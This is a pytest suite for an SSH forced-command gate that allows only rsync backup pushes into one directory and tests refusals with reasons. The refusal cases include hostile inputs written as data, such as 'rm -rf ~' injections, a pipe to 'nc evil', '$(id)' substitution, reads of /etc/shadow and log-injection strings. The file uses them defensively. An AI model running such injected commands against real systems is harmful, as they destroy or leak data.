"""keyforge gate's judgement: what a backup key may push, and every refusal with its reason."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from keyforge.receiver import gate


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home" / "foo"
    (home / ".ssh").mkdir(parents=True)
    (home / "srvbackups").mkdir()
    return home


def config(home: Path, **values: object) -> gate.GateConfig:
    return gate.GateConfig(str(home / "srvbackups"), home=str(home), **values)  # type: ignore[arg-type]


def judge(home: Path, command: str, **values: object) -> gate.Decision:
    return gate.judge(command, config(home, **values))


# --- splitting as a shell would ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("rsync --server . a", ["rsync", "--server", ".", "a"]),
        ("rsync  --server   . a", ["rsync", "--server", ".", "a"]),
        (r"rsync . my\ dir\;x/", ["rsync", ".", "my dir;x/"]),
        ("rsync . 'my dir;$x'", ["rsync", ".", "my dir;$x"]),
        ('rsync . "my dir" "a\\"b"', ["rsync", ".", "my dir", 'a"b']),
        ("rsync . a'b'\"c\"", ["rsync", ".", "abc"]),
        ("rsync . ''", ["rsync", ".", ""]),
        ("rsync . a#b", ["rsync", ".", "a#b"]),
    ],
)
def test_split_command_removes_quotes_and_escapes_like_a_shell(
    command: str, words: list[str]
) -> None:
    assert [word.text for word in gate.split_command(command)] == words


def test_split_command_marks_only_a_bare_leading_tilde() -> None:
    words = gate.split_command(r"x ~/a '~/b' \~/c a~")
    assert [word.tilde for word in words] == [False, True, False, False, False]


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("rsync . a;rm -rf ~", "';' (a second command)"),
        ("rsync . a && id", "'&'"),
        ("rsync . a | nc evil 1", "'|' (a pipe)"),
        ("rsync . a > /etc/x", "'>' (a redirection)"),
        ("rsync . a < /etc/x", "'<' (a redirection)"),
        ("rsync . $(id)", "'$'"),
        ("rsync . `id`", "backquote"),
        ("rsync . $HOME", "'$'"),
        ('rsync . "$HOME"', "inside double quotes"),
        ('rsync . "`id`"', "inside double quotes"),
        ("rsync . a*", "glob"),
        ("rsync . a?", "glob"),
        ("rsync . [ab]", "glob"),
        ("rsync . {a,b}", "brace"),
        ("rsync . (a)", "subshell"),
        ("rsync . #x", "comment"),
        ("rsync . a\nid", "control character"),
        ("rsync . a\rb", "control character"),
        ("rsync . a\tb", "control character"),
        ("rsync . a\x1b[2J", "control character"),
        ("rsync . 'a", "unclosed single quote"),
        ('rsync . "a', "unclosed double quote"),
        ("rsync . a\\", "backslash at the end"),
        ("rsync " + "a" * (gate.MAX_COMMAND + 1), "characters long"),
    ],
)
def test_split_command_refuses_shell_syntax_with_its_name(command: str, reason: str) -> None:
    with pytest.raises(gate.GateRefusalError) as refused:
        gate.split_command(command)
    assert reason in refused.value.message


# --- allowed pushes ---------------------------------------------------------------------------

REAL_CLIENTS = [
    # rsync 3.1-style (no 'I', 'v', 'u' capabilities yet)
    "rsync --server -logDtprze.iLsfxC --delete . srvbackups/",
    "rsync --server -logDtprze.iLsfx --delete . srvbackups/",
    # rsync 3.2-style
    "rsync --server -logDtprze.iLsfxCIvu --delete . srvbackups/",
    "rsync --server -vlogDtprze.iLsfxCIvu --delete-after --partial . srvbackups/",
    "rsync --server -logDtpre.iLsfxCIvu --delete . ~/srvbackups/",
    "rsync --server -logDtprze.iLsfxCIvu --log-format=X --delete --partial . srvbackups/",
    "rsync --server -blogDtprze.iLsfxCIvu --backup-dir old --delete . srvbackups/",
    "rsync --server -lHogDtpAXrSe.iLsfxCIvu --stats --delay-updates . srvbackups/",
    "rsync --server -logDtpre.iLsfxCIvu --log-format=%i -B2048 --timeout=30 --bwlimit=100 "
    "--max-delete=5 --modify-window=1 . srvbackups/",
    "rsync --server -logDtpre.iLsfxCIvu --numeric-ids --append --append . srvbackups/",
    "rsync --server -logDtpre.iLsfxCIvu --compress-level=3 --checksum-choice=xxh64 "
    "--compress-choice=zstd . srvbackups/",
    "rsync --server -logDtpre.iLsfxCIvu -B1024 -@-1 --checksum-seed=5 . srvbackups/",
    "rsync --server -logDtpre.iLsfxCIvu --msgs2stderr . srvbackups/",
    "rsync --server -logDtpre.iLsfxCIvu --delete-delay --delete-excluded --fsync --mkpath "
    ". srvbackups/",
    # a pre-release protocol in the capability string
    "rsync --server -logDtprze31.14iLsfxCIvu --delete . srvbackups/",
    # rsync 3.4-style, absolute destination, a file name escaped by rsync >= 3.2.4
    "rsync --server -logDtprze.iLsfxCIvu --delete . /home/foo/srvbackups/my\\ dir\\;x/",
    # an older client that sent the destination as typed, quoted by its user
    "rsync --server -logDtprze.iLsfxC --delete . 'srvbackups/my dir'",
    # an rsync-path with a directory
    "/usr/bin/rsync --server -logDtprze.iLsfxCIvu --delete . srvbackups",
    # rsync -a --remove-source-files: the sending side removes what it sent, as rrsync allows
    "rsync --server -logDtpre.iLsfxCIvu --remove-source-files . srvbackups/",
]


@pytest.mark.parametrize("command", REAL_CLIENTS)
def test_pushes_real_clients_send_into_the_directory_are_allowed(home: Path, command: str) -> None:
    command = command.replace("/home/foo", str(home))
    decision = judge(home, command)
    assert decision.allowed, decision.reason
    assert decision.argv[0] == gate.DEFAULT_RSYNC
    assert decision.argv[1] == "--server"
    assert decision.argv[-2] == "."
    assert decision.argv[-1].startswith(str(home / "srvbackups"))
    assert "--munge-links" in decision.argv


def test_the_exec_argv_is_the_unquoted_words_with_an_absolute_destination(home: Path) -> None:
    decision = judge(home, "rsync --server -logDtprze.iLsfxCIvu --delete . ~/srvbackups/a\\ b/")
    assert decision.argv == (
        "/usr/bin/rsync",
        "--server",
        "-logDtprze.iLsfxCIvu",
        "--delete",
        "--munge-links",
        *gate.unconfined_no_specials(),
        ".",
        f"{home}/srvbackups/a b/",
    )


def test_confine_adds_rsyncs_own_confinement_of_the_resolved_directory(home: Path) -> None:
    decision = judge(home, "rsync --server -logDtprze.iLsfxCIvu . srvbackups/", confine=True)
    assert decision.argv[-4:] == (
        f"--confine-root={home}/srvbackups",
        "--drop-D",
        ".",
        f"{home}/srvbackups/",
    )


def test_rsync_can_confine_is_false_for_a_program_that_does_not_run(tmp_path: Path) -> None:
    assert not gate.rsync_can_confine(str(tmp_path / "no-rsync"))


def test_no_munge_links_leaves_the_option_out(home: Path) -> None:
    decision = judge(home, "rsync --server -logDtprze.iLsfxCIvu . srvbackups/", munge_links=False)
    assert "--munge-links" not in decision.argv


def test_the_configured_rsync_is_what_runs_whatever_the_client_names(home: Path) -> None:
    decision = judge(home, "/tmp/evil/rsync --server -r . srvbackups/", rsync="/opt/rsync")
    assert decision.argv[0] == "/opt/rsync"


def test_a_destination_inside_the_directory_is_allowed(home: Path) -> None:
    assert judge(home, "rsync --server -r . srvbackups/host1/etc").allowed


# --- refusals ---------------------------------------------------------------------------------

REFUSALS = {
    "pull": ("rsync --server --sender -logDtprze.iLsfxCIvu . srvbackups/", "a pull (--sender)"),
    "daemon": ("rsync --server --daemon .", "--daemon"),
    "not rsync": ("sh -c id", "not an rsync command"),
    "not a server": ("rsync -a /etc srvbackups/", "not an rsync server command"),
    "empty": ("", "an empty command"),
    "path outside": ("rsync --server -r . /etc/", "is outside"),
    "home": ("rsync --server -r . ~/", "is outside"),
    "dotdot": ("rsync --server -r . srvbackups/../.ssh/", "'..' component"),
    "dotdot at the end": ("rsync --server -r . srvbackups/..", "'..' component"),
    "another user": ("rsync --server -r . ~root/", "another user's home"),
    "two destinations": ("rsync --server -r . srvbackups/a srvbackups/b", "several paths"),
    "no destination": ("rsync --server -r .", "no destination"),
    "no dot": ("rsync --server -r srvbackups/", "unexpected word"),
    "no dot at all": ("rsync --server -r", "no '.'"),
    "secluded args": ("rsync --server -slogDtpre.iLsfxCIvu .", "-s (--secluded-args)"),
    "keep dirlinks": ("rsync --server -lKogDtpre.iLsfxCIvu . srvbackups/", "-K"),
    "copy links": ("rsync --server -Lr . srvbackups/", "-L"),
    "temp dir short": ("rsync --server -rT . srvbackups/", "-T"),
    "files-from": ("rsync --server -r --files-from=/etc/shadow . srvbackups/", "--files-from"),
    "log-file": ("rsync --server -r --log-file=/home/x . srvbackups/", "--log-file"),
    "write-devices": ("rsync --server -r --write-devices . srvbackups/", "--write-devices"),
    "no-munge": ("rsync --server -r --no-munge-links . srvbackups/", "--no-munge-links"),
    "unknown long": ("rsync --server -r --frobnicate . srvbackups/", "--frobnicate"),
    "unknown short": ("rsync --server -rF . srvbackups/", "-F"),
    "flag with value": ("rsync --server -r --delete=yes . srvbackups/", "takes no value"),
    "value missing": ("rsync --server -r --timeout . srvbackups/", "has no value"),
    "value like an option": (
        "rsync --server -r --timeout --files-from=x . srvbackups/",
        "takes the next word",
    ),
    "backup-dir absolute outside": (
        "rsync --server -rb --backup-dir=/etc . srvbackups/",
        "(/etc) is outside",
    ),
    "backup-dir dotdot": (
        "rsync --server -rb --backup-dir ../../.ssh . srvbackups/",
        "'..' component",
    ),
    "link-dest tilde": ("rsync --server -r --link-dest=~/x . srvbackups/", "only a path inside"),
    "suffix with slash": ("rsync --server -rb --suffix=/x . srvbackups/", "--suffix"),
    "bad capabilities": ("rsync --server -re.iL;x . srvbackups/", "';'"),
    "capabilities without dot": ("rsync --server -reiLs . srvbackups/", "without its '.'"),
    "bad block size": ("rsync --server -r -Bx . srvbackups/", "takes a number"),
    "shell payload": ("rsync --server -r . srvbackups/;rm -rf ~", "';' (a second command)"),
    "command substitution": ("rsync --server -r . srvbackups/$(id)", "'$'"),
}


@pytest.mark.parametrize("name", REFUSALS, ids=list(REFUSALS))
def test_refusals_name_their_reason(home: Path, name: str) -> None:
    command, reason = REFUSALS[name]
    decision = judge(home, command)
    assert not decision.allowed
    assert decision.argv == ()
    assert reason in decision.reason


def test_no_command_at_all_is_refused(home: Path) -> None:
    decision = gate.judge(None, config(home))
    assert not decision.allowed
    assert "no command" in decision.reason


def test_a_symlink_leading_out_of_the_directory_is_refused(home: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (home / "srvbackups" / "escape").symlink_to(outside)
    decision = judge(home, "rsync --server -r . srvbackups/escape/deeper/")
    assert not decision.allowed
    assert "symbolic link" in decision.reason


def test_a_dangling_symlink_leading_out_is_refused(home: Path, tmp_path: Path) -> None:
    (home / "srvbackups" / "later").symlink_to(tmp_path / "not-yet")
    assert not judge(home, "rsync --server -r . srvbackups/later").allowed


def test_a_symlink_inside_the_directory_is_followed_and_allowed(home: Path) -> None:
    (home / "srvbackups" / "real").mkdir()
    (home / "srvbackups" / "alias").symlink_to(home / "srvbackups" / "real")
    assert judge(home, "rsync --server -r . srvbackups/alias/").allowed


def test_a_confined_option_through_a_symlink_leading_out_is_refused(
    home: Path, tmp_path: Path
) -> None:
    (home / "srvbackups" / "old").symlink_to(tmp_path)
    decision = judge(home, "rsync --server -rb --backup-dir=old . srvbackups/")
    assert not decision.allowed
    assert "leads out" in decision.reason


# --- option paths, read as rrsync reads them -------------------------------------------------

OPTION_PATHS = ["link-dest", "compare-dest", "copy-dest", "backup-dir", "temp-dir"]


@pytest.mark.parametrize("name", OPTION_PATHS)
def test_an_option_path_starts_at_the_directory_not_at_the_destination(
    home: Path, name: str
) -> None:
    # the rotating layout: push into cur/, hard-link against prev/ beside it
    root = home / "srvbackups"
    (root / "prev").mkdir()
    decision = judge(home, f"rsync --server -rb --{name}=prev . srvbackups/cur/")
    assert decision.allowed, decision.reason
    assert f"--{name}={root}/prev" in decision.argv


def test_an_option_path_given_as_the_next_word_is_resolved_in_place(home: Path) -> None:
    decision = judge(home, "rsync --server -r --link-dest prev/daily --delete . srvbackups/cur/")
    assert decision.argv[2:6] == (
        "-r",
        "--link-dest",
        f"{home}/srvbackups/prev/daily",
        "--delete",
    )


def test_an_absolute_option_path_inside_the_directory_is_allowed(home: Path) -> None:
    root = home / "srvbackups"
    decision = judge(home, f"rsync --server -r --compare-dest={root}/prev . srvbackups/cur/")
    assert f"--compare-dest={root}/prev" in decision.argv


def test_an_option_path_is_passed_with_its_symlinks_resolved(home: Path) -> None:
    root = home / "srvbackups"
    (root / "day1").mkdir()
    (root / "latest").symlink_to("day1")
    decision = judge(home, "rsync --server -r --link-dest=latest . srvbackups/cur/")
    assert f"--link-dest={root}/day1" in decision.argv


@pytest.mark.parametrize("name", [*OPTION_PATHS, "partial-dir"])
def test_an_option_path_through_a_symlink_out_at_any_component_is_refused(
    home: Path, tmp_path: Path, name: str
) -> None:
    outside = tmp_path / "outside"
    (outside / "deeper").mkdir(parents=True)
    (home / "srvbackups" / "a").mkdir()
    (home / "srvbackups" / "a" / "out").symlink_to(outside)
    for value in ("a/out", "a/out/deeper", "a/out/not-yet"):
        decision = judge(home, f"rsync --server -r --{name}={value} . srvbackups/")
        assert not decision.allowed, value
        assert "through a symbolic link" in decision.reason


def test_an_option_path_that_does_not_exist_yet_is_allowed(home: Path) -> None:
    # the first run of a rotation has no prev/ yet: rsync warns and copies
    decision = judge(home, "rsync --server -r --link-dest=prev . srvbackups/cur/")
    assert f"--link-dest={home}/srvbackups/prev" in decision.argv


@pytest.mark.parametrize("value", ["../prev", "prev/../../x", "/etc", "~/x", ""])
def test_an_option_path_leading_out_is_refused(home: Path, value: str) -> None:
    assert not judge(home, f"rsync --server -r --link-dest={value} . srvbackups/cur/").allowed


def test_a_partial_dir_name_stays_the_name_rsync_makes_in_each_directory(home: Path) -> None:
    # --delay-updates needs the per-directory name: one absolute directory breaks it
    command = "rsync --server -logDtpre.iLsfxCIvu --delete --partial-dir=.rsync-partial "
    decision = judge(home, command + "--delay-updates . srvbackups/cur/")
    assert decision.allowed, decision.reason
    assert "--partial-dir=.rsync-partial" in decision.argv


def test_a_partial_dir_path_is_one_directory_read_from_the_directory(home: Path) -> None:
    decision = judge(home, "rsync --server -r --partial-dir=tmp/partial . srvbackups/cur/")
    assert f"--partial-dir={home}/srvbackups/tmp/partial" in decision.argv


@pytest.mark.parametrize("value", ["tmp/partial", "{root}/.rsync-partial"])
def test_one_partial_directory_with_delay_updates_is_refused(home: Path, value: str) -> None:
    # rsync would discard every file and exit 0
    value = value.format(root=home / "srvbackups")
    command = f"rsync --server -r --partial-dir={value} --delay-updates . srvbackups/"
    decision = judge(home, command)
    assert "discard every file" in decision.reason


def test_a_partial_dir_name_that_is_a_symlink_out_is_refused(home: Path, tmp_path: Path) -> None:
    (home / "srvbackups" / ".rsync-partial").symlink_to(tmp_path)
    decision = judge(home, "rsync --server -r --partial-dir=.rsync-partial . srvbackups/")
    assert "through a symbolic link" in decision.reason


def test_an_option_path_spelt_another_way_is_no_drift(home: Path) -> None:
    expected = "rsync --server -r --link-dest=prev . ~/srvbackups/cur/"
    other = f"rsync --server -r --link-dest={home}/srvbackups/prev . ~/srvbackups/cur/"
    decision = judge(home, other, expect=expected)
    assert decision.allowed
    assert not decision.drift


# --- devices, specials and the unconfined warning ---------------------------------------------


def test_without_confine_devices_and_specials_are_turned_off_after_the_clients_options(
    home: Path,
) -> None:
    decision = judge(home, "rsync --server -logDtpre.iLsfxCIvu --specials . srvbackups/")
    assert decision.argv[-3:] == (*gate.unconfined_no_specials(), ".", f"{home}/srvbackups/")
    assert "--confine-root" not in " ".join(decision.argv)


@pytest.mark.parametrize(("uid", "added"), [(0, ("--no-D",)), (1000, ("--no-specials",))])
def test_only_a_gate_running_as_root_turns_devices_off_too(
    home: Path, monkeypatch: pytest.MonkeyPatch, uid: int, added: tuple[str, ...]
) -> None:
    # only root's rsync makes device nodes, and --no-devices stalls a push that holds one
    monkeypatch.setattr(gate.os, "geteuid", lambda: uid)
    decision = judge(home, "rsync --server -logDtpre.iLsfxCIvu . srvbackups/")
    assert decision.argv[-2 - len(added) : -2] == added


def test_with_confine_there_is_no_no_d(home: Path) -> None:
    decision = judge(home, "rsync --server -logDtpre.iLsfxCIvu . srvbackups/", confine=True)
    assert "--no-D" not in decision.argv
    assert "--no-specials" not in decision.argv


def _logged_events(home: Path, command: str, **values: object) -> list[dict[str, object]]:
    cfg = config(home, rsync="/nonexistent/rsync", **values)
    gate.decide_and_log(cfg, {"SSH_ORIGINAL_COMMAND": command, "SSH_CLIENT": "192.0.2.7 5 22"})
    return [json.loads(line) for line in Path(cfg.log).read_text().splitlines()]


def test_each_unconfined_push_logs_a_warning_line(home: Path) -> None:
    push = "rsync --server -r . srvbackups/"
    _logged_events(home, push)
    events = _logged_events(home, push)
    assert [r["event"] for r in events] == ["allowed", "warning", "allowed", "warning"]
    assert events[1]["warning"] == gate.UNCONFINED_RISK
    assert "merge file" in gate.UNCONFINED_RISK
    assert events[1]["client"] == "192.0.2.7"


def test_a_confined_push_and_a_refusal_log_no_warning(home: Path) -> None:
    assert [r["event"] for r in _logged_events(home, "rsync --server -r . x/")] == ["refused"]
    events = _logged_events(home, "rsync --server -r . srvbackups/", confine=True)
    assert [r["event"] for r in events] == ["refused", "allowed"]


def test_check_setup_refuses_an_unconfined_gate_unless_allowed(home: Path) -> None:
    with pytest.raises(gate.GateUsageError) as err:
        gate.check_setup(config(home))
    assert "--allow-unconfined" in err.value.message
    assert "merge file" in err.value.message
    gate.check_setup(config(home), allow_unconfined=True)
    gate.check_setup(config(home, confine=True))


def test_a_directory_holding_the_ssh_directory_is_refused(home: Path) -> None:
    decision = gate.judge("rsync --server -r . x/", gate.GateConfig(str(home), home=str(home)))
    assert "misconfigured gate" in decision.reason


def test_a_directory_inside_the_ssh_directory_is_refused(home: Path) -> None:
    cfg = gate.GateConfig(str(home / ".ssh" / "x"), home=str(home))
    assert "misconfigured gate" in gate.judge("rsync --server -r . .ssh/x/", cfg).reason


def test_a_log_inside_the_directory_is_refused(home: Path) -> None:
    cfg = config(home, log=str(home / "srvbackups" / "gate.log"))
    assert "the log" in gate.judge("rsync --server -r . srvbackups/", cfg).reason


# --- exact and drift --------------------------------------------------------------------------

CAPTURED = "rsync --server -logDtprze.iLsfxCIvu --delete . ~/srvbackups/"


def test_exact_runs_the_expected_command(home: Path) -> None:
    assert judge(home, CAPTURED, expect=CAPTURED, exact=True).allowed


def test_exact_refuses_any_other_text_even_a_harmless_one(home: Path) -> None:
    other = CAPTURED.replace("CIvu", "C")
    decision = judge(home, other, expect=CAPTURED, exact=True)
    assert not decision.allowed
    assert "--exact" in decision.reason


def test_exact_still_judges_the_expected_command(home: Path) -> None:
    pull = "rsync --server --sender -r . srvbackups/"
    assert not judge(home, pull, expect=pull, exact=True).allowed


def test_the_expected_command_is_no_drift(home: Path) -> None:
    assert not judge(home, CAPTURED, expect=CAPTURED).drift


@pytest.mark.parametrize(
    "other",
    [
        CAPTURED.replace("-logDtprze.iLsfxCIvu", "-logDtprze.iLsfxC"),  # an older client
        CAPTURED.replace("-logDtprze.iLsfxCIvu", "-logDtprze.iLsfxCIvuX"),  # a newer one
        CAPTURED.replace("--delete", "--delete-after"),
        CAPTURED.replace("~/srvbackups/", "~/srvbackups/other/"),
    ],
)
def test_another_meaning_that_passes_is_allowed_as_drift(home: Path, other: str) -> None:
    decision = judge(home, other, expect=CAPTURED)
    assert decision.allowed
    assert decision.drift


def test_the_same_meaning_spelt_differently_is_no_drift(home: Path) -> None:
    absolute = CAPTURED.replace("~/srvbackups/", f"{home}/srvbackups/")
    assert not judge(home, absolute, expect=CAPTURED).drift


# --- the gate's command line ------------------------------------------------------------------


def test_gate_args_read_values_in_both_spellings() -> None:
    cfg = gate.parse_gate_args(
        ["--dir=/srv/b", "--expect", "rsync x", "--exact", "--log", "/l", "--rsync=/r"], home="/h"
    )
    assert cfg is not None
    assert (cfg.directory, cfg.expect, cfg.exact, cfg.log, cfg.rsync) == (
        "/srv/b",
        "rsync x",
        True,
        "/l",
        "/r",
    )


def test_gate_args_default_log_is_in_the_users_keyforge_directory() -> None:
    cfg = gate.parse_gate_args(["--dir", "/srv/b"], home="/home/foo")
    assert cfg is not None
    assert cfg.log == "/home/foo/.ssh/keyforge/gate.log"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ([], "--dir is required"),
        (["--dir"], "--dir needs a value"),
        (["--dir", "/d", "--exact"], "--exact needs --expect"),
        (["--dir", "/d", "--bogus"], "unknown argument"),
        (["--dir", "/d", "--rsync", "rsync"], "absolute path"),
    ],
)
def test_bad_gate_args_are_usage_errors(args: list[str], message: str) -> None:
    with pytest.raises(gate.GateUsageError) as err:
        gate.parse_gate_args(args, home="/h")
    assert message in err.value.message


def test_help_is_asked_for_with_none() -> None:
    assert gate.parse_gate_args(["--help"], home="/h") is None


def test_gate_command_quotes_each_argument_for_the_shell() -> None:
    cfg = gate.GateConfig("/home/foo/srv", home="/home/foo", expect="rsync --server . a'b\\ c/")
    line = gate.gate_command("/opt/keyforge/bin/keyforge", cfg)
    assert line == (
        "/opt/keyforge/bin/keyforge gate --dir /home/foo/srv --expect "
        "'rsync --server . a'\"'\"'b\\ c/'"
    )


def test_check_setup_refuses_an_expected_command_the_gate_would_refuse(home: Path) -> None:
    with pytest.raises(gate.GateUsageError) as err:
        gate.check_setup(
            config(home, expect="rsync --server --sender -r . srvbackups/", confine=True)
        )
    assert "would refuse the expected command" in err.value.message


# --- the edge: logging and the exit -----------------------------------------------------------


def records(log: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in log.read_text().splitlines()]


def run_gate(home: Path, command: str | None, *extra: str, client: str = "192.0.2.7 5 22") -> int:
    environ = {"SSH_CLIENT": client}
    if command is not None:
        environ["SSH_ORIGINAL_COMMAND"] = command
    return gate.run(["--dir", str(home / "srvbackups"), *extra], environ, home=str(home))


def test_a_refusal_is_logged_with_the_client_and_exits_1(
    home: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    assert run_gate(home, "rsync --server --sender -r . srvbackups/") == 1
    err = capfd.readouterr().err
    assert (
        err
        == "keyforge gate: refused: a pull (--sender): this key may only push into the directory\n"
    )
    log = home / ".ssh" / "keyforge" / "gate.log"
    (record,) = records(log)
    assert record["event"] == "refused"
    assert record["client"] == "192.0.2.7"
    assert record["command"] == "rsync --server --sender -r . srvbackups/"
    assert stat.S_IMODE(log.stat().st_mode) == 0o600
    assert stat.S_IMODE(log.parent.stat().st_mode) == 0o700


def test_the_client_comes_from_ssh_connection_when_ssh_client_is_missing() -> None:
    assert gate.client_address({"SSH_CONNECTION": "2001:db8::1 5 ::1 22"}) == "2001:db8::1"
    assert gate.client_address({"SSH_CLIENT": "::ffff:192.0.2.1 5 22"}) == "192.0.2.1"
    assert gate.client_address({"SSH_CLIENT": "x;rm 5 22"}) == "unknown"
    assert gate.client_address({}) == "unknown"


def test_hostile_text_is_stored_as_one_json_line(home: Path) -> None:
    payload = 'rsync . a"\n{"event":"allowed"}\x00\x1b[2J' + "é" * 10
    run_gate(home, payload)
    lines = (home / ".ssh" / "keyforge" / "gate.log").read_bytes().splitlines()
    assert len(lines) == 1
    assert json.loads(lines[0])["command"] == payload
    assert lines[0].isascii()


def test_a_huge_command_is_clipped_in_the_log(home: Path) -> None:
    run_gate(home, "x" * 100_000)
    (record,) = records(home / ".ssh" / "keyforge" / "gate.log")
    assert record["command_length"] == 100_000
    assert len(str(record["command"])) == gate.LOG_COMMAND_LIMIT


def test_drift_is_logged_once_per_new_command(home: Path, tmp_path: Path) -> None:
    stub = tmp_path / "rsync"  # exec would replace the test process: judge and log only
    cfg = config(home, expect=CAPTURED, rsync=str(stub), confine=True)
    other = CAPTURED.replace("CIvu", "C")
    environ = {"SSH_ORIGINAL_COMMAND": other, "SSH_CLIENT": "192.0.2.7 5 22"}
    for _ in range(3):
        assert gate.decide_and_log(cfg, environ).allowed
    events = [r["event"] for r in records(Path(cfg.log))]
    assert events == ["allowed", "drift", "allowed", "allowed"]
    drift = records(Path(cfg.log))[1]
    assert drift["expected"] == CAPTURED
    assert drift["received"] == other
    assert "keyforge capture" in str(drift["hint"])


def test_a_garbled_drift_state_is_read_without_failing(home: Path, tmp_path: Path) -> None:
    cfg = config(home, expect=CAPTURED, rsync=str(tmp_path / "rsync"), confine=True)
    Path(gate.drift_state_path(cfg.log)).parent.mkdir(parents=True)
    Path(gate.drift_state_path(cfg.log)).write_bytes(b"\xff\xfe not ascii\n")
    environ = {"SSH_ORIGINAL_COMMAND": CAPTURED.replace("CIvu", "C")}
    assert gate.decide_and_log(cfg, environ).allowed
    assert [r["event"] for r in records(Path(cfg.log))] == ["allowed", "drift"]


def test_an_unwritable_log_is_said_but_the_decision_stands(
    home: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    log = home / "nowhere" / "gate.log"
    (home / "nowhere").write_text("a file, not a directory")
    code = run_gate(home, "rsync --server --sender -r . srvbackups/", "--log", str(log))
    assert code == 1
    assert "cannot write the log" in capfd.readouterr().err


def test_the_allowed_command_is_executed_as_an_argv_list(home: Path, tmp_path: Path) -> None:
    out = tmp_path / "argv.json"
    stub = tmp_path / "stub"
    stub.write_text(
        "#!/usr/bin/env python3\nimport json, sys\n"
        f"open({str(out)!r}, 'w').write(json.dumps(sys.argv[1:]))\n"
    )
    stub.chmod(0o755)
    pid = os.fork()
    if pid == 0:  # the child becomes the stub through the gate's execv
        try:
            run_gate(home, "rsync --server -r . 'srvbackups/a;b'", "--rsync", str(stub))
        finally:
            os._exit(99)
    _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0
    assert json.loads(out.read_text()) == [
        "--server",
        "-r",
        "--munge-links",
        *gate.unconfined_no_specials(),
        ".",
        f"{home}/srvbackups/a;b",
    ]
